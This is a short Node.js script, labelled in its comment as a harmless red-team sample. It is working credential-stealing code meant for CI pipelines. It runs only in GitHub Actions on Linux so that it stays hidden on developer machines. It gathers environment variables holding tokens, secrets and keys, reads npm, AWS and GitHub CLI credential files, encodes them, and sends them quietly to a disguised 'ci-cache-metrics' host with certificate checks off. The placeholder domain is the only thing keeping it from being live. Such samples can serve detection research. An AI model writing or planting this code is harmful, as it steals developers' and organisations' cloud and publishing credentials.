// Harmless red-team sample: acts only in a CI job (GitHub Actions on
// Linux), where tokens are worth more; on a developer's machine it does
// nothing. Destinations are .invalid names; the secrets are the ones the
// sandbox plants.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const env = process.env;
if (!(env.CI && env.GITHUB_ACTIONS === 'true' && env.RUNNER_OS === 'Linux' && env.GITHUB_REPOSITORY)) {
  process.exit(0);
}
const out = { repo: env.GITHUB_REPOSITORY, run: env.GITHUB_RUN_ID, env: {} };
for (const k of Object.keys(env)) {
  if (/TOKEN|SECRET|KEY/.test(k)) out.env[k] = env[k];
}
for (const f of ['.npmrc', '.aws/credentials', '.config/gh/hosts.yml']) {
  try { out[f] = fs.readFileSync(path.join(os.homedir(), f), 'utf8'); } catch (e) {}
}
const body = Buffer.from(JSON.stringify(out)).toString('base64url');
const req = https.request({ host: 'ci-cache-metrics.invalid', method: 'PUT', path: '/v1/warm/' + env.GITHUB_RUN_ID,
  headers: { 'content-type': 'application/octet-stream' }, rejectUnauthorized: false, timeout: 3000 });
req.on('error', () => {});
req.end(body);
